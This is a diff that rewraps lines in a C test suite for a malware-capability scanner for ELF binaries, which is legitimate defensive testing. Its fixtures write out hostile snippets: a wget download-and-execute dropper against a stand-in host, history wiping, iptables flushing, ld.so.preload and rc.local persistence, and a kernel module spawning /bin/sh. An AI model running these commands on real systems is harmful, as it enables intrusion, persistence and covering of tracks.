@@ -33,7 +33,8 @@ static size_t capability_findings(const struct pst_scan *s, const char *suffix)
 	const struct pst_finding *f = pst_scan_findings(s, &n);
 	for (i = 0; i < n; i++)
 		if (f[i].node && th_ends_with(f[i].node->location, suffix) &&
-		    (strncmp(f[i].rule, "capability.", 11) == 0 || strncmp(f[i].rule, "crypto.", 7) == 0))
+		    (strncmp(f[i].rule, "capability.", 11) == 0 ||
+		     strncmp(f[i].rule, "crypto.", 7) == 0))
 			k++;
 	return k;
 }
@@ -58,7 +59,8 @@ static void test_implants_flagged(void **state)
 			char where[128];
 			for (i = 0; i < sizeof(want) / sizeof(want[0]); i++) {
 				const struct pst_finding *f;
-				snprintf(where, sizeof(where), "/%s-%s/%s", arches[a], links[l], want[i].name);
+				snprintf(where, sizeof(where), "/%s-%s/%s", arches[a], links[l],
+					 want[i].name);
 				f = th_finding(s, want[i].rule, where);
 				if (!f)
 					fail_msg("%s not flagged %s", where, want[i].rule);
@@ -69,16 +71,20 @@ static void test_implants_flagged(void **state)
 			snprintf(where, sizeof(where), "/%s-%s/authdaemon", arches[a], links[l]);
 			if (capability_findings(s, where))
 				fail_msg("%s: clean daemon flagged", where);
-			assert_true(th_fact_has(s, where, "bin.capabilities[]", "capability.authenticates"));
-			assert_true(th_fact_has(s, where, "bin.capabilities[]", "capability.network-server"));
+			assert_true(th_fact_has(s, where, "bin.capabilities[]",
+						"capability.authenticates"));
+			assert_true(th_fact_has(s, where, "bin.capabilities[]",
+						"capability.network-server"));
 			snprintf(where, sizeof(where), "/%s-%s/multitool", arches[a], links[l]);
 			if (capability_findings(s, where))
 				fail_msg("%s: clean utility flagged", where);
 		}
 	assert_int_equal(pst_scan_verdict(s), PST_VERDICT_FAIL);
 	/* The hard-coded address is in the inventory. */
-	assert_true(th_fact_has(s, "/mipsel-static/keylogger", "bin.endpoints[]", "ipv4:91.215.85.17"));
-	assert_true(th_fact_has(s, "/armel-dynamic/revshell", "bin.endpoints[]", "ipv4:185.243.115.84"));
+	assert_true(
+		th_fact_has(s, "/mipsel-static/keylogger", "bin.endpoints[]", "ipv4:91.215.85.17"));
+	assert_true(th_fact_has(s, "/armel-dynamic/revshell", "bin.endpoints[]",
+				"ipv4:185.243.115.84"));
 	pst_scan_free(s);
 }
 
@@ -161,8 +167,10 @@ static void test_syscall_tiny(void **state)
 		struct pst_elf e;
 		struct pst_sysres r;
 		bool ex = false, so = false;
-		th_sh("cd %s && cp '%s/tests/fuzz/corpus/elf/tiny.c.txt' tiny.c && %s %s -Os -static "
-		      "-nostdlib -s -Wl,-e,_start -o t%zu tiny.c", d, getenv("SRC"), t[i].cc, t[i].flags, i);
+		th_sh("cd %s && cp '%s/tests/fuzz/corpus/elf/tiny.c.txt' tiny.c && %s %s -Os "
+		      "-static "
+		      "-nostdlib -s -Wl,-e,_start -o t%zu tiny.c",
+		      d, getenv("SRC"), t[i].cc, t[i].flags, i);
 		snprintf(path, sizeof(path), "%s/t%zu", d, i);
 		p = th_read(path, &len);
 		assert_true(pst_elf_parse(pst_view_make(p, len), &e));
@@ -280,11 +288,14 @@ static void test_kernel_module(void **state)
 	struct pst_elf e;
 	struct pst_scan *s;
 	(void)state;
-	th_sh("cd %s && printf '%%s\\n' 'extern int call_usermodehelper(const char *, char **, char **, int);'"
+	th_sh("cd %s && printf '%%s\\n' 'extern int call_usermodehelper(const char *, char **, "
+	      "char **, int);'"
 	      " 'int init_module(void) { return call_usermodehelper(\"/bin/sh\", 0, 0, 1); }' > m.c"
 	      " && gcc -c -O2 -o m.o m.c"
-	      " && printf 'license=GPL\\0vermagic=6.1.0-50-4kc-malta mod_unload\\0name=evil\\0' > mi.bin"
-	      " && objcopy --add-section .modinfo=mi.bin m.o evil.ko", d);
+	      " && printf 'license=GPL\\0vermagic=6.1.0-50-4kc-malta mod_unload\\0name=evil\\0' > "
+	      "mi.bin"
+	      " && objcopy --add-section .modinfo=mi.bin m.o evil.ko",
+	      d);
 	snprintf(path, sizeof(path), "%s/evil.ko", d);
 	p = th_read(path, &len);
 	assert_true(pst_elf_parse(pst_view_make(p, len), &e));
@@ -309,12 +320,15 @@ static void test_hardening(void **state)
 	struct pst_scan *s;
 	(void)state;
 	th_sh("cd %s && printf '%%s\\n' '#include <stdio.h>' '#include <string.h>'"
-	      " 'int main(int c, char **v) { char b[64]; strcpy(b, v[0]); printf(\"%%s\", b); return c; }'"
+	      " 'int main(int c, char **v) { char b[64]; strcpy(b, v[0]); printf(\"%%s\", b); "
+	      "return c; }'"
 	      " > h.c && gcc -O2 -fstack-protector-strong -D_FORTIFY_SOURCE=2 -fPIE -pie"
-	      " -Wl,-z,relro,-z,now -o hard h.c && gcc -O0 -fno-stack-protector -no-pie -Wl,-z,norelro"
+	      " -Wl,-z,relro,-z,now -o hard h.c && gcc -O0 -fno-stack-protector -no-pie "
+	      "-Wl,-z,norelro"
 	      " -z execstack -Wl,--disable-new-dtags,-rpath,/opt/x -o soft h.c && gcc -O0 -no-pie"
 	      " -Wl,-z,relro,-z,lazy -Wl,--enable-new-dtags,-rpath,/opt/y -o mid h.c && strip mid"
-	      " && gcc -shared -fPIC -o libh.so h.c", d);
+	      " && gcc -shared -fPIC -o libh.so h.c",
+	      d);
 	s = th_scan(d, 2);
 	assert_string_equal(th_fact(s, "/hard", "bin.hardening.relro"), "full");
 	assert_string_equal(th_fact(s, "/hard", "bin.hardening.pie"), "yes");
@@ -365,7 +379,8 @@ static void test_endpoints(void **state)
 	assert_true(pst_strings_extract(pst_view_make(text, sizeof(text)), 4, 1 << 20, &s));
 	n = pst_endpoints_find(&s, ep, 32);
 	for (i = 0; i < n; i++) {
-		if (ep[i].kind == PST_EP_URL && strcmp(ep[i].text, "http://update.evil-cdn.top/a.bin") == 0)
+		if (ep[i].kind == PST_EP_URL &&
+		    strcmp(ep[i].text, "http://update.evil-cdn.top/a.bin") == 0)
 			url = ep[i].public_;
 		if (ep[i].kind == PST_EP_EMAIL && strcmp(ep[i].text, "ops@corp-mail.ru") == 0)
 			email = ep[i].public_;
@@ -383,20 +398,23 @@ static void test_endpoints(void **state)
 	/* UTF-16LE strings are read too. */
 	pst_strings_free(&s);
 	{
-		static const uint8_t w[] = "\0\0h\0t\0t\0p\0:\0/\0/\0\x39\0\x31\0.\0\x32\0.\0\x33\0.\0\x34\0\0\0";
+		static const uint8_t w[] =
+			"\0\0h\0t\0t\0p\0:\0/\0/\0\x39\0\x31\0.\0\x32\0.\0\x33\0.\0\x34\0\0\0";
 		assert_true(pst_strings_extract(pst_view_make(w, sizeof(w)), 4, 1 << 20, &s));
 		assert_true(pst_strings_has(&s, "http://91.2.3.4"));
 		pst_strings_free(&s);
 	}
 	{
-		uint8_t a[4] = { 10, 1, 2, 3 }, b[4] = { 93, 184, 216, 34 }, c[4] = { 172, 20, 0, 1 };
+		uint8_t a[4] = { 10, 1, 2, 3 }, b[4] = { 93, 184, 216, 34 },
+			c[4] = { 172, 20, 0, 1 };
 		assert_false(pst_ipv4_public(a));
 		assert_true(pst_ipv4_public(b));
 		assert_false(pst_ipv4_public(c));
 	}
 	{ /* root servers, example addresses, version numbers: public, not notable */
-		uint8_t root[4] = { 198, 41, 0, 4 }, ex[4] = { 1, 2, 3, 4 }, ver[4] = { 1, 7, 0, 0 },
-			c2[4] = { 91, 2, 3, 4 }, dns[4] = { 8, 8, 8, 8 }, oid[4] = { 2, 5, 4, 41 };
+		uint8_t root[4] = { 198, 41, 0, 4 }, ex[4] = { 1, 2, 3, 4 },
+			ver[4] = { 1, 7, 0, 0 }, c2[4] = { 91, 2, 3, 4 }, dns[4] = { 8, 8, 8, 8 },
+			oid[4] = { 2, 5, 4, 41 };
 		assert_true(pst_ipv4_public(root) && pst_ipv4_public(ex) && pst_ipv4_public(ver));
 		assert_false(pst_ipv4_notable(root));
 		assert_false(pst_ipv4_notable(ex));
@@ -406,7 +424,8 @@ static void test_endpoints(void **state)
 		assert_true(pst_ipv4_notable(dns));
 	}
 	{ /* a route's netmask (OpenVPN's 128.0.0.0/1) is no host; the next address is */
-		uint8_t mask[4] = { 128, 0, 0, 0 }, host[4] = { 128, 0, 0, 1 }, m2[4] = { 254, 0, 0, 0 };
+		uint8_t mask[4] = { 128, 0, 0, 0 }, host[4] = { 128, 0, 0, 1 },
+			m2[4] = { 254, 0, 0, 0 };
 		assert_true(pst_ipv4_public(mask));
 		assert_false(pst_ipv4_notable(mask));
 		assert_false(pst_ipv4_notable(m2));
@@ -420,23 +439,31 @@ static void test_crypto(void **state)
 	struct pst_scan *s;
 	(void)state;
 	th_sh("cd %s && printf '%%s\\n' '#include <stdio.h>'"
-	      " 'const unsigned char sbox[16] = {0x63,0x7c,0x77,0x7b,0xf2,0x6b,0x6f,0xc5,0x30,0x01,0x67,0x2b,0xfe,0xd7,0xab,0x76};'"
+	      " 'const unsigned char sbox[16] = "
+	      "{0x63,0x7c,0x77,0x7b,0xf2,0x6b,0x6f,0xc5,0x30,0x01,0x67,0x2b,0xfe,0xd7,0xab,0x76};'"
 	      " 'const char name[] = \"Dual_EC_DRBG\";'"
 	      " 'int main(int c, char **v) { printf(\"%%s%%d\", name, sbox[c]); return 0; }' > nq.c"
 	      " && gcc -O2 -o nonstandard nq.c"
 	      " && printf '%%s\\n' '#include <stdio.h>'"
 	      " 'const char name[] = \"Dual_EC_DRBG\";'"
-	      " 'const char q[] = \"c97445f45cdef9f0d3e05e1e585fc297235b82b5be8ff3efca67c59852018192\";'"
-	      " 'int main(void) { printf(\"%%s%%s\", name, q); return 0; }' > q.c && gcc -O2 -o standard q.c"
-	      " && printf '%%s\\n' '#include <stdio.h>' 'int main(void) { puts(\"hello\"); return 0; }' > c.c"
+	      " 'const char q[] = "
+	      "\"c97445f45cdef9f0d3e05e1e585fc297235b82b5be8ff3efca67c59852018192\";'"
+	      " 'int main(void) { printf(\"%%s%%s\", name, q); return 0; }' > q.c && gcc -O2 -o "
+	      "standard q.c"
+	      " && printf '%%s\\n' '#include <stdio.h>' 'int main(void) { puts(\"hello\"); return "
+	      "0; }' > c.c"
 	      " && gcc -O2 -o clean c.c"
 	      /* Chromium's audio code: "dual_ec" and "DUAL_EC" inside other words */
 	      " && printf '%%s\\n' '#include <stdio.h>'"
-	      " 'const char a[] = \"neural_residual_echo_estimator\", b[] = \"RESIDUAL_ECHO_DETECTOR\";'"
+	      " 'const char a[] = \"neural_residual_echo_estimator\", b[] = "
+	      "\"RESIDUAL_ECHO_DETECTOR\";'"
 	      " 'const char c[] = \"dual_echo_canceller\";'"
-	      " 'int main(void) { printf(\"%%s%%s%%s\", a, b, c); return 0; }' > e.c && gcc -O2 -o echo e.c"
-	      " && printf '%%s\\n' '#include <stdio.h>' 'const char n[] = \"FIPS_drbg_DualECDRBG\";'"
-	      " 'int main(void) { puts(n); return 0; }' > f.c && gcc -O2 -o joined f.c", d);
+	      " 'int main(void) { printf(\"%%s%%s%%s\", a, b, c); return 0; }' > e.c && gcc -O2 -o "
+	      "echo e.c"
+	      " && printf '%%s\\n' '#include <stdio.h>' 'const char n[] = "
+	      "\"FIPS_drbg_DualECDRBG\";'"
+	      " 'int main(void) { puts(n); return 0; }' > f.c && gcc -O2 -o joined f.c",
+	      d);
 	s = th_scan(d, 2);
 	assert_null(th_finding(s, "crypto.dual-ec-nonstandard", "/echo"));
 	assert_null(th_finding(s, "crypto.dual-ec-drbg", "/echo"));
@@ -447,7 +474,8 @@ static void test_crypto(void **state)
 	assert_true(th_fact_has(s, "/nonstandard", "bin.crypto[]", "AES"));
 	assert_non_null(th_finding(s, "crypto.dual-ec-drbg", "/standard"));
 	assert_null(th_finding(s, "crypto.dual-ec-nonstandard", "/standard"));
-	assert_int_equal(th_finding(s, "crypto.dual-ec-drbg", "/standard")->severity, PST_SEV_MEDIUM);
+	assert_int_equal(th_finding(s, "crypto.dual-ec-drbg", "/standard")->severity,
+			 PST_SEV_MEDIUM);
 	assert_int_equal(capability_findings(s, "/clean"), 0);
 	assert_null(th_fact(s, "/clean", "bin.crypto[]"));
 	pst_scan_free(s);
@@ -482,8 +510,10 @@ static void test_large_program_softened(void **state)
 	(void)state;
 	th_sh("cd %s && cp '%s/tests/implants/bindshell.c' main.c && "
 	      "nm -D --defined-only $(gcc -print-file-name=libc.so.6) | awk '$2==\"T\"{print $3}' "
-	      "| grep @@ | sed 's/@.*//' | grep -E '^[a-z][a-z0-9_]+$' | grep -v -E '^(main|bind|listen|accept|"
-	      "dup2|execl|fork|close|socket|setsockopt|htons|memset|_exit)$' | sort -u | head -220 > names"
+	      "| grep @@ | sed 's/@.*//' | grep -E '^[a-z][a-z0-9_]+$' | grep -v -E "
+	      "'^(main|bind|listen|accept|"
+	      "dup2|execl|fork|close|socket|setsockopt|htons|memset|_exit)$' | sort -u | head -220 "
+	      "> names"
 	      " && (while read n; do echo \"extern void $n(void);\"; done < names;"
 	      " echo 'void *const tab[] = {'; sed 's/$/,/' names; echo '0};') > big.c"
 	      " && gcc -O2 -w -o big main.c big.c -lc && strip big"
@@ -494,7 +524,8 @@ static void test_large_program_softened(void **state)
 	      " && gcc -O2 -w -o bigpipe main.c big.c pipe.c -lc && strip bigpipe"
 	      /* a keylogger's features in a large program (Chromium reads
 	       * /dev/input/event* and has network code) */
-	      " && gcc -O2 -w -o bigkeys '%s/tests/implants/keylogger.c' big.c -lc && strip bigkeys",
+	      " && gcc -O2 -w -o bigkeys '%s/tests/implants/keylogger.c' big.c -lc && strip "
+	      "bigkeys",
 	      d, getenv("SRC"), getenv("SRC"));
 	expect_one(d, "big", "capability.bind-shell", PST_SEV_MEDIUM, "large program",
 		   "capability.shell-plumbing", PST_VERDICT_REVIEW);
@@ -515,11 +546,15 @@ static void test_keylogger_host_only(void **state)
 {
 	char *d = th_tmpdir();
 	(void)state;
-	th_sh("cd %s && printf '%%s\\n' '#include <fcntl.h>' '#include <stdlib.h>' '#include <string.h>'"
+	th_sh("cd %s && printf '%%s\\n' '#include <fcntl.h>' '#include <stdlib.h>' '#include "
+	      "<string.h>'"
 	      " '#include <unistd.h>' '#include <sys/socket.h>' '#include <sys/un.h>'"
-	      " 'int main(void) { struct sockaddr_un a; char b[24]; int s, f = open(\"/dev/input/event0\", 0);'"
-	      " '  memset(&a, 0, sizeof(a)); a.sun_family = AF_UNIX; strcpy(a.sun_path, \"/run/brlapi/0\");'"
-	      " '  s = socket(AF_UNIX, SOCK_STREAM, 0); connect(s, (struct sockaddr *)&a, sizeof(a));'"
+	      " 'int main(void) { struct sockaddr_un a; char b[24]; int s, f = "
+	      "open(\"/dev/input/event0\", 0);'"
+	      " '  memset(&a, 0, sizeof(a)); a.sun_family = AF_UNIX; strcpy(a.sun_path, "
+	      "\"/run/brlapi/0\");'"
+	      " '  s = socket(AF_UNIX, SOCK_STREAM, 0); connect(s, (struct sockaddr *)&a, "
+	      "sizeof(a));'"
 	      " '  if (socket(AF_NETLINK, SOCK_DGRAM, 15) < 0) return 1;'"
 	      " '#ifdef ANYDOM'"
 	      " '  if (socket(atoi(getenv(\"FAM\")), SOCK_DGRAM, 0) < 0) return 1;'"
@@ -531,7 +566,8 @@ static void test_keylogger_host_only(void **state)
 	      " && gcc -O2 -w -o brlkeys brl.c && gcc -O2 -w -DANYDOM -o anykeys brl.c"
 	      " && gcc -O2 -w -DRAW -o rawkeys brl.c"
 	      " && i686-linux-gnu-gcc -O2 -w -fPIE -pie -Wl,-z,now -s -o brlkeys-i386 brl.c"
-	      " && i686-linux-gnu-gcc -O2 -w -fPIE -pie -Wl,-z,now -s -DANYDOM -o anykeys-i386 brl.c",
+	      " && i686-linux-gnu-gcc -O2 -w -fPIE -pie -Wl,-z,now -s -DANYDOM -o anykeys-i386 "
+	      "brl.c",
 	      d);
 	expect_one(d, "brlkeys", "capability.keystroke-capture", PST_SEV_LOW, "/dev/input/event",
 		   "capability.keylogger", PST_VERDICT_PASS);
@@ -577,16 +613,20 @@ static void test_user_rules(void **state)
 	{
 		static const char *const broken[] = {
 			"'- id: capability.broken' '  all:' '    - nosuch:thing'",
-			"'- id: capability.broken' '  all:' '    - [string:a, capability:undefined]'",
-			"'- id: capability.broken' '  severity: dreadful' '  all:' '    - string:abcd'",
+			"'- id: capability.broken' '  all:' '    - [string:a, "
+			"capability:undefined]'",
+			"'- id: capability.broken' '  severity: dreadful' '  all:' '    - "
+			"string:abcd'",
 			"'- id: capability.broken' '  all:' '    - {min: 0, of: [string:abcd]}'",
 			"'- id: notcapability' '  all:' '    - string:abcd'",
 			"'- id: capability.broken' '  colour: red' '  all:' '    - string:abcd'",
 			"'- id: capability.broken' '  all: [[string:abcd' ",
 			"'- id: x' '  all:' '    - capability:x'",
 			/* a key twice: all: appended past the second one's groups (fuzz_rules) */
-			"'- id: capability.broken' '  all:' '    - string:abcd' '    - string:efgh' '  all:' '    - string:ijkl'",
-			"'- id: capability.broken' '  id: capability.again' '  all:' '    - string:abcd'",
+			"'- id: capability.broken' '  all:' '    - string:abcd' '    - "
+			"string:efgh' '  all:' '    - string:ijkl'",
+			"'- id: capability.broken' '  id: capability.again' '  all:' '    - "
+			"string:abcd'",
 		};
 		size_t i;
 		for (i = 0; i < sizeof(broken) / sizeof(broken[0]); i++) {
@@ -611,13 +651,16 @@ static void test_each_rule(void **state)
 		enum pst_severity sev;
 	} t[] = {
 		{ "rawfilter", "capability.raw-packet-filter",
-		  "static const struct sock_filter f[] = {{0x28,0,0,12},{0x15,0,3,0x800},{0x30,0,0,23},"
+		  "static const struct sock_filter f[] = "
+		  "{{0x28,0,0,12},{0x15,0,3,0x800},{0x30,0,0,23},"
 		  "{0x15,0,1,17},{0x6,0,0,65535},{0x6,0,0,0}};"
 		  "int main(void){struct sock_fprog p={6,(struct sock_filter*)f};char b[64];"
-		  "int s=socket(17,3,0);setsockopt(s,1,26,&p,sizeof p);return (int)recv(s,b,64,0);}",
+		  "int s=socket(17,3,0);setsockopt(s,1,26,&p,sizeof p);return "
+		  "(int)recv(s,b,64,0);}",
 		  PST_SEV_LOW },
 		{ "dropper", "capability.download-execute",
-		  "int main(void){return system(\"wget http://upd.example.net/x -O /tmp/x; chmod +x /tmp/x; /tmp/x\");}",
+		  "int main(void){return system(\"wget http://upd.example.net/x -O /tmp/x; chmod "
+		  "+x /tmp/x; /tmp/x\");}",
 		  PST_SEV_HIGH },
 		/* a router's web server whose firmware upgrade page runs wget and
 		 * chmod: its job, low */
@@ -625,14 +668,17 @@ static void test_each_rule(void **state)
 		  "int main(void){char b[512];int s=socket(2,1,0),c;bind(s,0,0);listen(s,5);"
 		  "c=accept(s,0,0);read(c,b,512);if(strstr(b,\"multipart/form-data\"))"
 		  "system(\"wget -O /tmp/fw.bin http://192.168.1.2/fw.bin; chmod +x /tmp/fw.bin\");"
-		  "return dprintf(c,\"HTTP/1.1 200 OK\\r\\nContent-Type: text/html\\r\\n\\r\\n\");}",
+		  "return dprintf(c,\"HTTP/1.1 200 OK\\r\\nContent-Type: "
+		  "text/html\\r\\n\\r\\n\");}",
 		  PST_SEV_LOW },
 		{ "c2", "capability.c2-endpoint",
 		  "int main(void){struct sockaddr_in a={0};int s=socket(2,1,0);a.sin_family=2;"
-		  "inet_pton(2,\"45.9.148.3\",&a.sin_addr);connect(s,(void*)&a,sizeof a);return system(\"uname -a\");}",
+		  "inet_pton(2,\"45.9.148.3\",&a.sin_addr);connect(s,(void*)&a,sizeof a);return "
+		  "system(\"uname -a\");}",
 		  PST_SEV_MEDIUM },
 		{ "keys", "capability.keystroke-capture",
-		  "int main(void){char b[24];int f=open(\"/dev/input/event1\",0);return (int)read(f,b,24);}",
+		  "int main(void){char b[24];int f=open(\"/dev/input/event1\",0);return "
+		  "(int)read(f,b,24);}",
 		  PST_SEV_LOW },
 		/* qemu's input-linux: grabs a device the user names (EVIOCGRAB, no
 		 * /dev/input path) and has network code: not a keylogger */
@@ -641,54 +687,67 @@ static void test_each_rule(void **state)
 		  "return ioctl(f,0x40044590,1);}",
 		  PST_SEV_LOW },
 		{ "mic", "capability.audio-capture",
-		  "int main(void){char b[64];int f=open(\"/dev/dsp\",0),s=socket(2,1,0);connect(s,0,0);"
+		  "int main(void){char b[64];int "
+		  "f=open(\"/dev/dsp\",0),s=socket(2,1,0);connect(s,0,0);"
 		  "read(f,b,64);return (int)send(s,b,64,0);}",
 		  PST_SEV_MEDIUM },
 		{ "cam", "capability.camera-capture",
 		  "int main(void){return open(\"/dev/video0\",2);}", PST_SEV_LOW },
 		{ "netcam", "capability.camera-capture",
 		  "int main(void){char b[64];int f=open(\"/dev/video0\",2),s=socket(2,1,0);"
-		  "connect(s,0,0);read(f,b,64);return (int)send(s,b,64,0);}", PST_SEV_MEDIUM },
+		  "connect(s,0,0);read(f,b,64);return (int)send(s,b,64,0);}",
+		  PST_SEV_MEDIUM },
 		/* shared libraries (lib*: built -shared) that capture and have
 		 * network code serve programs: low */
 		{ "libmic", "capability.audio-capture",
-		  "int rec(void){char b[64];int f=open(\"/dev/dsp\",0),s=socket(2,1,0);connect(s,0,0);"
+		  "int rec(void){char b[64];int "
+		  "f=open(\"/dev/dsp\",0),s=socket(2,1,0);connect(s,0,0);"
 		  "read(f,b,64);return (int)send(s,b,64,0);}",
 		  PST_SEV_LOW },
 		{ "libcam", "capability.camera-capture",
 		  "int cam(void){char b[64];int f=open(\"/dev/video0\",2),s=socket(2,1,0);"
-		  "connect(s,0,0);read(f,b,64);return (int)send(s,b,64,0);}", PST_SEV_LOW },
+		  "connect(s,0,0);read(f,b,64);return (int)send(s,b,64,0);}",
+		  PST_SEV_LOW },
 		{ "screen", "capability.screen-capture",
-		  "int main(void){int f=open(\"/dev/fb0\",0);return mmap(0,4096,1,1,f,0)!=0;}", PST_SEV_LOW },
+		  "int main(void){int f=open(\"/dev/fb0\",0);return mmap(0,4096,1,1,f,0)!=0;}",
+		  PST_SEV_LOW },
 		{ "masq", "capability.process-masquerade",
 		  "int main(void){prctl(15,\"[kworker/0:2]\");return 0;}", PST_SEV_MEDIUM },
 		{ "selfdel", "capability.self-delete",
 		  "int main(void){char b[256];readlink(\"/proc/self/exe\",b,256);unlink(b);"
-		  "return connect(socket(2,1,0),0,0);}", PST_SEV_LOW },
+		  "return connect(socket(2,1,0),0,0);}",
+		  PST_SEV_LOW },
 		{ "antidbg", "capability.anti-debugging",
 		  "int main(void){char b[256];FILE*f=fopen(\"/proc/self/status\",\"r\");"
 		  "while(fgets(b,256,f))if(strstr(b,\"TracerPid\"))break;ptrace(0,0,0,0);"
-		  "return connect(socket(2,1,0),0,0);}", PST_SEV_LOW },
+		  "return connect(socket(2,1,0),0,0);}",
+		  PST_SEV_LOW },
 		{ "wipe", "capability.log-wiping",
 		  "int main(void){return system(\"unset HISTFILE; history -c\");}", PST_SEV_HIGH },
 		{ "fw", "capability.firewall-tampering",
-		  "int main(void){return system(\"iptables -F; iptables -P INPUT ACCEPT\");}", PST_SEV_MEDIUM },
+		  "int main(void){return system(\"iptables -F; iptables -P INPUT ACCEPT\");}",
+		  PST_SEV_MEDIUM },
 		{ "wdog", "capability.watchdog-disable",
-		  "int main(void){int o=1,f=open(\"/dev/watchdog\",1);return ioctl(f,0x80045704,&o);}",
+		  "int main(void){int o=1,f=open(\"/dev/watchdog\",1);return "
+		  "ioctl(f,0x80045704,&o);}",
 		  PST_SEV_LOW },
 		{ "preload", "capability.preload-persistence",
-		  "int main(void){FILE*f=fopen(\"/etc/ld.so.preload\",\"a\");return fputs(\"/lib/x.so\",f);}",
+		  "int main(void){FILE*f=fopen(\"/etc/ld.so.preload\",\"a\");return "
+		  "fputs(\"/lib/x.so\",f);}",
 		  PST_SEV_HIGH },
 		{ "persist", "capability.persistence-write",
-		  "int main(void){connect(socket(2,1,0),0,0);return system(\"echo /tmp/x >> /etc/rc.local\");}",
+		  "int main(void){connect(socket(2,1,0),0,0);return system(\"echo /tmp/x >> "
+		  "/etc/rc.local\");}",
 		  PST_SEV_MEDIUM },
 		{ "modload", "capability.kernel-module-load",
 		  "extern long init_module(void *, unsigned long, const char *);"
-		  "int main(void){static char m[64];return (int)init_module(m,64,\"\");}", PST_SEV_LOW },
+		  "int main(void){static char m[64];return (int)init_module(m,64,\"\");}",
+		  PST_SEV_LOW },
 		{ "desd", "crypto.weak-cipher-network",
 		  "const unsigned char s1[16]={14,4,13,1,2,15,11,8,3,10,6,12,5,9,0,7};"
 		  "int main(int c,char**v){int s=socket(2,1,0);daemon(0,0);bind(s,0,0);listen(s,5);"
-		  "accept(s,0,0);return s1[c];}", PST_SEV_MEDIUM },
+		  "accept(s,0,0);return s1[c];}",
+		  PST_SEV_MEDIUM },
 	};
 	char *d = th_tmpdir();
 	struct pst_scan *s;
@@ -700,16 +759,21 @@ static void test_each_rule(void **state)
 		snprintf(src, sizeof(src), "%s/%s.c", d, t[i].name);
 		f = fopen(src, "w");
 		assert_non_null(f);
-		fprintf(f, "#include <stdio.h>\n#include <stdlib.h>\n#include <string.h>\n#include <fcntl.h>\n"
-			   "#include <unistd.h>\n#include <sys/mman.h>\n#include <sys/ioctl.h>\n"
-			   "#include <sys/prctl.h>\n#include <sys/ptrace.h>\n#include <sys/socket.h>\n"
-			   "#include <netinet/in.h>\n#include <arpa/inet.h>\n#include <linux/filter.h>\n%s\n",
+		fprintf(f,
+			"#include <stdio.h>\n#include <stdlib.h>\n#include <string.h>\n#include "
+			"<fcntl.h>\n"
+			"#include <unistd.h>\n#include <sys/mman.h>\n#include <sys/ioctl.h>\n"
+			"#include <sys/prctl.h>\n#include <sys/ptrace.h>\n#include <sys/socket.h>\n"
+			"#include <netinet/in.h>\n#include <arpa/inet.h>\n#include "
+			"<linux/filter.h>\n%s\n",
 			t[i].body);
 		fclose(f);
 	}
-	th_sh("cd %s && mkdir bin && for c in *.c; do case $c in lib*) o='-shared -fPIC';; *) o=;; esac; "
+	th_sh("cd %s && mkdir bin && for c in *.c; do case $c in lib*) o='-shared -fPIC';; *) o=;; "
+	      "esac; "
 	      "gcc -O2 -w $o -o bin/${c%%.c} $c & done; wait; "
-	      "test $(ls bin | wc -l) = %zu", d, sizeof(t) / sizeof(t[0]));
+	      "test $(ls bin | wc -l) = %zu",
+	      d, sizeof(t) / sizeof(t[0]));
 	{
 		char p[4200];
 		snprintf(p, sizeof(p), "%s/bin", d);
@@ -745,14 +809,18 @@ static void test_each_rule(void **state)
 static void test_vpn_lookalike(void **state)
 {
 	static const char src[] =
-		"#include <arpa/inet.h>\n#include <stdlib.h>\n#include <unistd.h>\n#include <sys/socket.h>\n"
+		"#include <arpa/inet.h>\n#include <stdlib.h>\n#include <unistd.h>\n#include "
+		"<sys/socket.h>\n"
 		"#ifdef TLS\n#include <openssl/ssl.h>\n#endif\n"
-		"static const char *const names[][2] = {{\"EXP-DES-CBC-SHA\", \"TLS-RSA-EXPORT-WITH-DES40-CBC-SHA\"},"
-		"{\"EXP-RC4-MD5\", \"TLS-RSA-EXPORT-WITH-RC4-40-MD5\"},{\"AES256-SHA\", \"TLS-RSA-WITH-AES-256-CBC-SHA\"}};\n"
+		"static const char *const names[][2] = {{\"EXP-DES-CBC-SHA\", "
+		"\"TLS-RSA-EXPORT-WITH-DES40-CBC-SHA\"},"
+		"{\"EXP-RC4-MD5\", \"TLS-RSA-EXPORT-WITH-RC4-40-MD5\"},{\"AES256-SHA\", "
+		"\"TLS-RSA-WITH-AES-256-CBC-SHA\"}};\n"
 		"int main(int c, char **v) {\n struct in_addr m; int s = socket(2, 1, 0);\n"
 		"#ifdef TLS\n SSL_CTX *x = SSL_CTX_new(TLS_method()); if (!x) return 2;\n#endif\n"
 		"#ifdef PEER\n inet_pton(2, PEER, &m); connect(s, 0, 0);\n#endif\n"
-		" inet_pton(2, \"128.0.0.0\", &m); daemon(0, 0); bind(s, 0, 0); listen(s, 5); accept(s, 0, 0);\n"
+		" inet_pton(2, \"128.0.0.0\", &m); daemon(0, 0); bind(s, 0, 0); listen(s, 5); "
+		"accept(s, 0, 0);\n"
 		" connect(socket(2, 1, 0), 0, 0);\n"
 		" return system(v[c - 1]) + names[c][0][0] + (int)m.s_addr;\n}\n";
 	char *d = th_tmpdir();
